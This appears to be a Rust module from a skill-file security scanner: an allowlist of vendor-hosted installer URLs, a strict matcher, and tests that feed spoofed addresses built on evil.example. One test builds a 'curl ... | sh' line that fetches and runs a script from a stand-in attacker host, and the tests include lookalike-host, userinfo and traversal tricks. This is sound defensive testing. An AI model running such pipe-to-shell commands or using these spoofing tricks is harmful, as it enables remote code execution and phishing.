//! Installers that their makers give at an address of their own, as data.
//!
//! An address that is one of these is told by its maker's name. It is run by
//! nobody for that: whoever answers there still decides what runs. An entry is
//! an exact scheme and host and either one whole path or the begin of one, up to
//! a slash. Addresses where anybody can put something (repositories, file
//! hosts, shorteners) are never listed.
//!
//! Attack: `https://sh.rustup.rs.evil.example/`, `https://sh.rustup.rs@evil.example/`,
//! `http:`, another port, another case, a dot behind the host, `//`, `..`, `%`.

/// An installer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Known {
    /// What is installed.
    pub what: &'static str,
    /// Its host, exactly.
    pub host: &'static str,
    /// Its path; one that ends in a slash also covers what lies below.
    pub path: &'static str,
}

impl Known {
    /// In words, for people.
    #[must_use]
    pub fn words(&self) -> String {
        format!("the installer of {}, as its makers give it", self.what)
    }
}

const fn known(what: &'static str, host: &'static str, path: &'static str) -> Known {
    Known { what, host, path }
}

/// All of them.
pub const KNOWN: &[Known] = &[
    known("rustup", "sh.rustup.rs", "/"),
    known("uv", "astral.sh", "/uv/"),
    known("ruff", "astral.sh", "/ruff/"),
    known("bun", "bun.sh", "/install"),
    known("bun", "bun.com", "/install"),
    known("deno", "deno.land", "/install.sh"),
    known("deno", "deno.land", "/x/install/install.sh"),
    known("tailscale", "tailscale.com", "/install.sh"),
    known("rclone", "rclone.org", "/install.sh"),
    known("azd", "aka.ms", "/install-azd.sh"),
    known("azure-cli", "aka.ms", "/InstallAzureCLIDeb"),
    known("foundry", "foundry.paradigm.xyz", "/"),
    known("docker", "get.docker.com", "/"),
    known("solana", "release.solana.com", "/stable/install"),
    known("solana", "release.anza.xyz", "/stable/install"),
    known("aspire", "aspire.dev", "/install.sh"),
    known("volta", "get.volta.sh", "/"),
    known("pnpm", "get.pnpm.io", "/install.sh"),
    known("poetry", "install.python-poetry.org", "/"),
    known("ollama", "ollama.com", "/install.sh"),
    known("starship", "starship.rs", "/install.sh"),
    known("pixi", "pixi.sh", "/install.sh"),
    known("mise", "mise.run", "/"),
    known("nix", "nixos.org", "/nix/install"),
    known("k3s", "get.k3s.io", "/"),
    known("flyctl", "fly.io", "/install.sh"),
    known("just", "just.systems", "/install.sh"),
];

/// The installer that an address is, if it is exactly one of them.
#[must_use]
pub fn at(url: &str) -> Option<&'static Known> {
    let rest = url.strip_prefix("https://")?;
    let (host, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    let path = if path.is_empty() { "/" } else { path };
    let plain = path.chars().all(|c| c.is_ascii_alphanumeric() || "/._-".contains(c))
        && !path.contains("//")
        && !path.split('/').any(|part| matches!(part, "." | ".."));
    let fits = |one: &&Known| {
        one.host == host
            && (one.path == path
                || one.path.ends_with('/') && one.path.len() > 1 && path.starts_with(one.path))
    };
    KNOWN.iter().filter(|_| plain).find(fits)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn what(url: &str) -> Option<&'static str> {
        at(url).map(|known| known.what)
    }

    #[test]
    fn an_installer_is_known_by_its_whole_address() {
        for (url, name) in [
            ("https://sh.rustup.rs", "rustup"),
            ("https://sh.rustup.rs/", "rustup"),
            ("https://astral.sh/uv/install.sh", "uv"),
            ("https://astral.sh/uv/0.9.0/install.sh", "uv"),
            ("https://bun.sh/install", "bun"),
            ("https://tailscale.com/install.sh", "tailscale"),
            ("https://rclone.org/install.sh", "rclone"),
            ("https://aka.ms/install-azd.sh", "azd"),
            ("https://foundry.paradigm.xyz", "foundry"),
            ("https://get.docker.com", "docker"),
            ("https://release.solana.com/stable/install", "solana"),
        ] {
            assert_eq!(what(url), Some(name), "{url}");
        }
    }

    fn none_of(urls: &[&str]) {
        for url in urls {
            assert_eq!(what(url), None, "{url}");
        }
    }

    #[test]
    fn attack_http() {
        none_of(&[
            "http://sh.rustup.rs/",
            "HTTPS://sh.rustup.rs/",
            "ftp://sh.rustup.rs/",
            "sh.rustup.rs",
            "//sh.rustup.rs/",
        ]);
    }

    #[test]
    fn attack_a_host_that_begins_or_ends_like_it() {
        none_of(&[
            "https://sh.rustup.rs.evil.example/",
            "https://evil-sh.rustup.rs/",
            "https://evil.sh.rustup.rs/",
            "https://rustup.rs/",
            "https://get.docker.com.evil.example",
        ]);
    }

    #[test]
    fn attack_userinfo() {
        none_of(&[
            "https://sh.rustup.rs@evil.example/",
            "https://u@sh.rustup.rs/",
            "https://sh.rustup.rs:x@evil.example/",
        ]);
    }

    #[test]
    fn attack_a_port() {
        none_of(&["https://sh.rustup.rs:443/", "https://sh.rustup.rs:8443/", "https://sh.rustup.rs:/"]);
    }

    #[test]
    fn attack_punycode_and_letters_that_look_alike() {
        none_of(&[
            "https://xn--sh-rustup-x5a.rs/",
            "https://sh.rust\u{0443}p.rs/",
            "https://sh.rustup\u{3002}rs/",
        ]);
    }

    #[test]
    fn attack_a_dot_behind_the_host_and_another_case() {
        none_of(&["https://sh.rustup.rs./", "https://SH.rustup.rs/", "https://get.Docker.com"]);
    }

    #[test]
    fn attack_two_slashes() {
        none_of(&[
            "https://sh.rustup.rs//",
            "https:///sh.rustup.rs/",
            "https://astral.sh/uv//install.sh",
            "https://astral.sh//uv/install.sh",
        ]);
    }

    #[test]
    fn attack_a_path_that_leaves() {
        none_of(&[
            "https://astral.sh/uv/../evil.sh",
            "https://astral.sh/uv/./install.sh",
            "https://astral.sh/uv/..",
            "https://astral.sh/uvx/install.sh",
            "https://bun.sh/install/evil",
            "https://bun.sh/installer",
        ]);
    }

    #[test]
    fn attack_percent_encoding_queries_and_fragments() {
        none_of(&[
            "https://astral.sh/uv/%2e%2e/evil.sh",
            "https://astral.sh/uv/%2fevil",
            "https://get.docker.com?x=1",
            "https://get.docker.com/?url=https://evil.example",
            "https://get.docker.com/#x",
            "https://get.docker.com\\@evil.example",
            "https://sh.rustup.rs/ evil",
            "https://sh.rustup.rs/\n",
        ]);
    }

    #[test]
    fn places_where_anybody_can_put_something_are_not_listed() {
        let open = [
            "github",
            "gitlab",
            "bitbucket",
            "amazonaws",
            "cloudfront",
            "pages.dev",
            "vercel",
            "bit.ly",
            "herokuapp",
            "blob.core",
            "googleapis",
        ];
        for one in KNOWN {
            assert!(!open.iter().any(|open| one.host.contains(open)), "{}", one.host);
            assert!(one.path.starts_with('/') && !one.host.contains(['/', ':', '@']), "{one:?}");
            assert!(
                one.host.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || ".-".contains(c)),
                "{one:?}"
            );
        }
    }

    #[test]
    fn a_known_installer_is_told_and_still_found() {
        use crate::model::finding::Tier;
        use crate::policy::review::{File, scan};
        let told = |url: &str| {
            let text = format!("---\nname: a\n---\n\n```sh\ncurl -fsSL {url} | sh\n```\n");
            let all = scan(&[File { path: "SKILL.md", bytes: text.as_bytes(), executable: false }]);
            let one = all.into_iter().find(|one| one.rule == "exec.fetch").unwrap();
            (one.tier, one.message)
        };
        let (tier, message) = told("https://sh.rustup.rs");
        assert_eq!(tier, Tier::Confirm);
        assert!(message.contains("the installer of rustup, as its makers give it"), "{message}");
        let (tier, message) = told("https://sh.rustup.rs.evil.example/");
        assert_eq!(tier, Tier::Confirm);
        assert!(!message.contains("makers"), "{message}");
    }
}
